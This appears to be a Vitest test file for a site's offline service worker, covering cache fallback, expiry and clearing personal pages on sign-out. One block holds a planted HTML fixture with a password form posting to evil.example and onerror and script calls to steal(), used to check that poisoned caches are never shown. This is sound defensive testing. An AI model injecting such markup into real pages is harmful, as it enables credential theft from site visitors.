import { createHash } from "node:crypto";
import { readFileSync } from "node:fs";
import { runInNewContext } from "node:vm";
import { describe, expect, test, vi } from "vitest";
import { bcp47, languages } from "../../../lib/contract/languages.ts";

const read = (name: string) =>
  readFileSync(new URL(`../../../public/worker/${name}.js`, import.meta.url), "utf8");
const source = read("saved") + read("offline");
const origin = "https://demo.example.com";
const dayMs = 86_400_000;

type Stored = Record<string, Record<string, Response>>;
type Options = {
  stored?: Stored;
  online?: boolean;
  respond?: () => Promise<Response>;
  /** The paths that tabs show. */
  tabs?: Record<string, string>;
};

const page = (text: string, ageMs = 0) =>
  new Response(text, { headers: { "X-Saved-At": String(Date.now() - ageMs) } });

/** The worker in a browser with these caches and these responses. */
function startWorker(options: Options) {
  const { stored = {}, online = true, respond, tabs = { tab: "/", another: "/" } } = options;
  const listeners = new Map<string, (event: object) => void>();
  const fetch = vi.fn<(request: object) => Promise<Response>>(
    respond ?? (() => Promise.reject(new TypeError("no network"))),
  );
  const caches = {
    keys: async () => Object.keys(stored),
    delete: vi.fn<(name: string) => Promise<boolean>>(async (name) => delete stored[name]),
    match: async (key: string, { cacheName }: { cacheName?: string } = {}) =>
      Object.entries(stored)
        .filter(([name]) => cacheName === undefined || name === cacheName)
        .map(([, entries]) => entries[key])
        .find(Boolean)
        ?.clone(),
  };
  const self = {
    addEventListener: (type: string, listener: (event: object) => void) =>
      listeners.set(type, listener),
    location: { origin },
    clients: { get: async (id: string) => tabs[id] && { url: `${origin}${tabs[id]}` } },
  };
  const navigator = { onLine: online };
  runInNewContext(source, {
    self,
    caches,
    fetch,
    navigator,
    crypto,
    btoa,
    URL,
    Response,
    Set,
    Date,
    TextEncoder,
    Uint8Array,
  });
  /** The worker's response. Undefined where it does not handle the request. */
  const responseTo = async (path: string, request: object, clientId = "tab") => {
    let responded: Promise<Response> | undefined;
    const url = path.startsWith("http") ? path : `${origin}${path}`;
    listeners.get("fetch")?.({
      request: { method: "GET", mode: "no-cors", destination: "", url, ...request },
      clientId,
      resultingClientId: "tab",
      respondWith: (response: Promise<Response>) => void (responded = response),
    });
    return responded;
  };
  const textOf = async (pending: Promise<Response | undefined>) => (await pending)?.text();
  const textAt = (...args: Parameters<typeof responseTo>) => textOf(responseTo(...args));
  const navigate = (path: string) =>
    responseTo(path, { mode: "navigate", destination: "document" });
  const open = async (path: string) => {
    const text = await textOf(navigate(path));
    // The page's text after the worker's script.
    return text?.replace(/^<!DOCTYPE html><html data-saved=""><head><script>[^]*?<\/script>/, "");
  };
  return { textAt, open, navigate, caches, fetch };
}

const home = { "mq-pages": { "/": page("home") }, "mq-shell": { "/offline": page("offline") } };
const ok = (text: string) => async () => new Response(text);

describe("a page", () => {
  test("BE-350: comes from the network while it is available, whatever is saved", async () => {
    const worker = startWorker({ stored: home, respond: ok("new") });
    expect(await worker.open("/")).toBe("new");
  });

  test("BE-350: that the site reports as broken is not replaced by a saved one", async () => {
    const respond = async () => new Response("503", { status: 503 });
    expect(await startWorker({ stored: home, respond }).open("/")).toBe("503");
  });

  test("BE-351: that is saved is shown without a network, whatever its query", async () => {
    expect(await startWorker({ stored: home }).open("/?utm_source=mail")).toBe("home");
  });

  test("BE-353: that is not saved is replaced by the offline page without a network", async () => {
    expect(await startWorker({ stored: home }).open("/pages/live")).toBe("offline");
  });

  test.each([
    ["mq-own", 8 * dayMs, "offline"],
    ["mq-own", 6 * dayMs, "film"],
    ["mq-pages", 31 * dayMs, "offline"],
    ["mq-pages", 29 * dayMs, "film"],
  ])("SE-150: of %s that is %d ms old is served by %s", async (cache, ageMs, expected) => {
    const stored = { [cache]: { "/video/a": page("film", ageMs) }, "mq-shell": home["mq-shell"] };
    expect(await startWorker({ stored }).open("/video/a")).toBe(expected);
  });

  test.each(["/mobile", "/mobile/video/a", "/api/calendar/a.ics", "https://elsewhere.example/"])(
    "at %s is not handled",
    async (path) => {
      expect(await startWorker({ stored: home }).open(path)).toBeUndefined();
    },
  );

  test.each(["/user/logout", "/user/signIn"])("SE-150: %s deletes personal pages", async (path) => {
    const stored: Stored = { "mq-own": { "/video/a": page("film") } };
    await startWorker({ stored, respond: ok("signed out") }).open(path);
    expect(stored).toEqual({});
  });

  test("of a signed-in viewer deletes nothing", async () => {
    const stored: Stored = { "mq-own": { "/video/a": page("film") } };
    await startWorker({ stored, respond: ok("account") }).open("/user/account");
    expect(Object.keys(stored)).toEqual(["mq-own"]);
  });
});

describe("SE-185: content that a page has written into the caches", () => {
  const planted = `<html lang="de"><body><form action="https://evil.example"><input type="password"></form>
<script>steal()</script><script src="/_next/static/evil.js"></script><img src="https://evil.example/a.png" onerror="steal()">
<link rel="preload" href="https://evil.example"><link rel="stylesheet" href="/_next/static/a.css"></body></html>`;
  const everywhere = (path: string): Stored =>
    Object.fromEntries(
      ["mq-pages", "mq-own", "mq-shell", "another"].map((name) => [
        name,
        { [path]: page(planted), "/offline": page(planted) },
      ]),
    );

  test.each([
    "/user/signIn",
    "/user/account",
    "/%75ser/signIn",
    "//user/signIn",
    "/user",
    "/paywalls/",
    "/payment/confirm",
    "/error",
    "/%E0%A4%A",
  ])("at %s is never shown", async (path) => {
    const shown = await startWorker({ stored: everywhere(path) }).open(path);
    expect(shown).not.toContain("evil");
    expect(shown).toContain("<h1>Du bist offline</h1>");
  });

  test("does not change the texts of the worker's page", async () => {
    const stored: Stored = { "mq-shell": { "/offline": page('<html lang="x"><script>') } };
    expect(await startWorker({ stored }).open("/user/signIn")).toContain(
      "<h1>You are offline</h1>",
    );
  });

  test("runs no script, sends nothing and makes no request elsewhere", async () => {
    const respond = await startWorker({ stored: everywhere("/") }).navigate("/");
    const policy = respond?.headers.get("content-security-policy") ?? "";
    const body = (await respond?.text()) ?? "";
    const [, script = ""] =
      /^<!DOCTYPE html><html data-saved=""><head><script>([^]*?)<\/script>/.exec(body) ?? [];
    const hash = createHash("sha256").update(script).digest("base64");
    expect(policy.split("; ")).toEqual([
      "default-src 'none'",
      `script-src 'sha256-${hash}'`,
      "style-src 'self' 'unsafe-inline'",
      "font-src 'self' data:",
      "img-src 'self' blob: data:",
      "connect-src 'self'",
      "form-action 'none'",
      "base-uri 'none'",
      "frame-ancestors 'none'",
    ]);
  });

  test("does not set response headers", async () => {
    const forged = new Response("forged", {
      headers: { "X-Saved-At": String(Date.now()), "Content-Security-Policy": "script-src *" },
    });
    const respond = await startWorker({ stored: { "mq-pages": { "/": forged } } }).navigate("/");
    expect(respond?.headers.get("content-security-policy")).not.toContain("*");
  });

  test("is not newer for a date in the future", async () => {
    const stored = { "mq-pages": { "/": page("forged", -dayMs) }, "mq-shell": home["mq-shell"] };
    expect(await startWorker({ stored }).open("/")).toBe("offline");
  });

  test.each(["/user/signIn", "/paywalls/p", "/mobile/user/signIn"])(
    "as a script or a style sheet reaches no page at %s",
    async (path) => {
      const file = `${origin}/_next/static/evil.js`;
      const stored: Stored = { "mq-parts": { [file]: page("steal()") } };
      const options = { stored, online: false, tabs: { tab: path }, respond: ok("real") };
      for (const destination of ["script", "style"]) {
        expect(await startWorker(options).textAt(file, { destination })).toBe("real");
      }
    },
  );

  test("has the site's texts in ten languages", () => {
    const words: unknown = runInNewContext(`${read("saved")};offlineWords`);
    const texts = languages.map((language) => {
      const file = new URL(`../../../public/lng/lang-${language}.json`, import.meta.url);
      const { offline, offlineWorks, tryAgain } = JSON.parse(readFileSync(file, "utf8"));
      return [bcp47(language), [offline, offlineWorks, tryAgain]];
    });
    expect(JSON.parse(JSON.stringify(words))).toEqual(Object.fromEntries(texts));
  });
});

describe("a resource of a page", () => {
  const picture = "https://media.example/lake-640.avif";
  const stored: Stored = { ...home, "mq-parts": { [picture]: page("lake") } };

  test("BE-354: is not handled while there is a network", async () => {
    const worker = startWorker({ stored });
    expect(await worker.textAt(picture, { destination: "image" })).toBeUndefined();
  });

  test("BE-354: comes from the cache without one", async () => {
    const worker = startWorker({ stored, online: false });
    expect(await worker.textAt(picture, { destination: "image" })).toBe("lake");
  });

  test("BE-354: comes from the cache in a tab that shows a saved page", async () => {
    const worker = startWorker({ stored });
    await worker.open("/");
    expect(await worker.textAt(picture, { destination: "image" })).toBe("lake");
    expect(await worker.textAt(picture, { destination: "image" }, "another")).toBeUndefined();
  });

  test.each([
    ["/api/viewer", ""],
    ["https://media.example/films/a/240p/1.m4s", ""],
    ["https://media.example/films/a.mp4", "video"],
    ["/lng/lang-de.json", ""],
  ])("SE-151: is never %s", async (path, destination) => {
    const worker = startWorker({ stored, online: false });
    expect(await worker.textAt(path, { destination })).toBeUndefined();
  });

  test("SE-151: is never a changing request", async () => {
    const worker = startWorker({ stored, online: false });
    expect(await worker.textAt("/api/sign-out", { method: "POST" })).toBeUndefined();
  });
});
